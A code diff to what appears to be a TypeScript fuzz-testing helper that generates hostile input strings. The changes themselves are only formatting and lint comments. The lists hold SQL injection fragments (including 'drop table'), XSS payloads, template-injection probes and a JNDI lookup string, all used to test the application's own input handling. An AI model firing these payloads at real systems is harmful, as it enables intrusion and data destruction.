@@ -16,7 +16,7 @@ export const SQL_FRAGMENTS = [
   "' OR 1=1 --",
   "'; drop table estimates; --",
   '" OR ""="',
-  "1; select pg_sleep(0)--",
+  '1; select pg_sleep(0)--',
   "admin'--",
   "%' or '%'='",
   '\\',
@@ -27,7 +27,9 @@ export const MARKUP_FRAGMENTS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   'javascript:alert(1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
   '{{7*7}}${7*7}<%= 7*7 %>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup-injection probe, meant literally
   '${jndi:ldap://example.com/a}',
   '<svg onload=alert(1)>',
 ];
@@ -95,9 +97,9 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
   fc.constantFrom('', ' ', HUNDRED_KILOBYTE_STRING),
   fc.string({ unit: 'grapheme', maxLength: 40 }),
   fc.string({ unit: 'binary', maxLength: 40 }),
-  fc.tuple(fc.constantFrom(...SQL_FRAGMENTS, ...MARKUP_FRAGMENTS), fc.string({ maxLength: 10 })).map(
-    ([fragment, tail]) => `${fragment}${tail}`,
-  ),
+  fc
+    .tuple(fc.constantFrom(...SQL_FRAGMENTS, ...MARKUP_FRAGMENTS), fc.string({ maxLength: 10 }))
+    .map(([fragment, tail]) => `${fragment}${tail}`),
 );
 
 /** Anything a JSON body may hold in one field, hostile or plainly of the wrong type. */
